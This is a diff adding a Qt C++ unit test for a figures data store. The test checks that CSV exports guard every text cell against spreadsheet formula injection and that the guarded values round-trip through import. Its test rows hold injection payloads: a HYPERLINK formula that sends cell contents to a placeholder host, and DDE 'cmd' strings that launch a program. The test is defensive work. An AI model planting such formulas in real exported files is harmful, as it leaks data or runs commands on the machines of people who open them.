@@ -53,6 +53,8 @@ private Q_SLOTS:
     void importIsAllOrNothing();
     void importValidRowsOnly();
     void importRoundTripsTheListing();
+    void listingIsSpreadsheetSafeAndImportsBack_data();
+    void listingIsSpreadsheetSafeAndImportsBack();
     void importHundredThousandRows();
     void userFiguresAreEditedAndDeleted();
     void choicesPickWhatTheModelsRead();
@@ -659,6 +661,91 @@ void TestStore::importRoundTripsTheListing()
     auto report = store::checkStore(path);
     QVERIFY(report.ok());
     QVERIFY2(report->problems.empty(), report->problems.empty() ? "" : report->problems.front().c_str());
+}
+
+void TestStore::listingIsSpreadsheetSafeAndImportsBack_data()
+{
+    QTest::addColumn<QString>("column");
+    QTest::addColumn<QString>("text");
+    QTest::newRow("entity, hyperlink") << "entity" << "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
+    QTest::newRow("metric, plus") << "metric" << "+cmd|' /C calc'!A0";
+    QTest::newRow("note, minus") << "note" << "-2+3+cmd|' /C calc'!A0";
+    QTest::newRow("note, at") << "note" << "@SUM(1+1)*cmd|' /C calc'!A0";
+    QTest::newRow("note, tab") << "note" << "\t=1+1";
+    QTest::newRow("note, carriage return") << "note" << "\r=1+1";
+    QTest::newRow("note, guard already there") << "note" << "'=1+1";
+    QTest::newRow("quote, minus") << "quote" << "- Acme spent $5 billion";
+    QTest::newRow("source title") << "source_title" << "=1+1";
+    QTest::newRow("source publisher, comma") << "source_publisher" << "-Acme, Inc.";
+}
+
+void TestStore::listingIsSpreadsheetSafeAndImportsBack()
+{
+    QFETCH(QString, column);
+    QFETCH(QString, text);
+    const std::string poison = text.toStdString();
+    Source source{"acme-10k", "Acme annual report", "Acme Inc.", "https://example.org/acme-10k",
+                  "2025-02", "filing", {}};
+    Figure own;
+    own.id = "u1";
+    own.category = "capex";
+    own.entity = "Acme";
+    own.metric = "Capex";
+    own.value = 5e9;
+    own.unit = "USD";
+    own.period = "2025";
+    own.kind = "reported";
+    own.sourceId = source.id;
+    own.quoted = "$5 billion";
+    own.quote = "Acme spent $5 billion";
+    own.userOwned = true;
+    if (column == u"entity") own.entity = poison;
+    if (column == u"metric") own.metric = poison;
+    if (column == u"note") own.note = poison;
+    if (column == u"quote") own.quote = poison;
+    if (column == u"source_title") source.title = poison;
+    if (column == u"source_publisher") source.publisher = poison;
+    QVERIFY(validateFigure(own).ok());
+    store::Dataset listed;
+    listed.sources.push_back(source);
+    listed.figures.push_back(own);
+    const std::string exported = store::figuresCsv(listed, {&listed.figures.front()});
+
+    // What a spreadsheet reads: no text cell starts a formula, the numbers are plain numbers.
+    auto records = csv::parse(exported, "listing.csv");
+    QVERIFY(records.ok());
+    QCOMPARE(records->size(), std::size_t(2));
+    const std::vector<std::string> &header = records->front().fields;
+    const std::vector<std::string> &cells = records->back().fields;
+    for (std::size_t i = 0; i < cells.size(); ++i) {
+        const bool number = header[i] == "value" || header[i] == "low" || header[i] == "high";
+        if (!number && !cells[i].empty())
+            QVERIFY2(std::string_view("=+-@\t\r").find(cells[i].front()) == std::string_view::npos,
+                     header[i].c_str());
+        if (header[i] == column.toStdString())
+            QCOMPARE(cells[i], "'" + poison);
+    }
+    QCOMPARE(cells[4], std::string("5e+09"));
+
+    // The importer reads back exactly the figure and source that were listed.
+    auto preview = store::checkImport(exported, "listing.csv", m_shipped, {});
+    QVERIFY2(preview.ok(), preview.ok() ? "" : preview.error().toString().c_str());
+    QVERIFY2(!preview->firstError(), preview->firstError() ? preview->firstError()->toString().c_str() : "");
+    QCOMPARE(preview->rows.size(), std::size_t(1));
+    QVERIFY(preview->rows.front().figure == own);
+    QCOMPARE(preview->sources.size(), std::size_t(1));
+    QVERIFY(preview->sources.front() == source);
+
+    // And a listing of the user database it went into is the same bytes.
+    const QString path = m_dir.filePath(QStringLiteral("guarded-%1.sqlite").arg(QTest::currentDataTag()));
+    {
+        auto user = store::UserStore::open(path);
+        QVERIFY(user.ok());
+        QVERIFY(user->importFigures(*preview, store::ImportMode::AllOrNothing).ok());
+    }
+    const store::Dataset stored = userFigures(path);
+    QCOMPARE(stored.figures.size(), std::size_t(1));
+    QCOMPARE(store::figuresCsv(stored, {&stored.figures.front()}), exported);
 }
 
 void TestStore::importHundredThousandRows()
